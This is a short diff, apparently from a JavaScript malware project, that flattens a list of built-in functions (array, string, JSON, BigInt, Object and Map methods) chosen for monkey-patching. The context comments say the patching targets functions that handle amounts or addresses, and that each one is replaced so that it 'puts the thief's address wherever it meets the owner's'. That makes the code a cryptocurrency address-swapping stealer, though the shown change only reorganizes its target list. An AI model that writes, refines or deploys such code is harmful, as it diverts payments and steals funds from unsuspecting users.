@@ -129,28 +129,22 @@ for (const [what, lies] of Object.entries(LIES)) {
 
 /** Functions of the language and the browser through which an amount or an address passes. */
 const PATCHED = [
-  ...[
-    'Array.prototype.map',
-    'Array.prototype.join',
-    'Array.prototype.slice',
-    'Array.prototype.concat',
-    'JSON.stringify',
-    'JSON.parse',
-  ],
-  ...[
-    'String.prototype.slice',
-    'String.prototype.padStart',
-    'String.prototype.toLowerCase',
-    'String.prototype.replace',
-  ],
-  ...[
-    'BigInt.prototype.toString',
-    'Number.prototype.toString',
-    'Object.keys',
-    'Object.entries',
-    'Object.assign',
-    'Map.prototype.get',
-  ],
+  'Array.prototype.map',
+  'Array.prototype.join',
+  'Array.prototype.slice',
+  'Array.prototype.concat',
+  'JSON.stringify',
+  'JSON.parse',
+  'String.prototype.slice',
+  'String.prototype.padStart',
+  'String.prototype.toLowerCase',
+  'String.prototype.replace',
+  'BigInt.prototype.toString',
+  'Number.prototype.toString',
+  'Object.keys',
+  'Object.entries',
+  'Object.assign',
+  'Map.prototype.get',
 ]
 
 /** Replaces a function by one that puts the thief's address wherever it meets the owner's. */
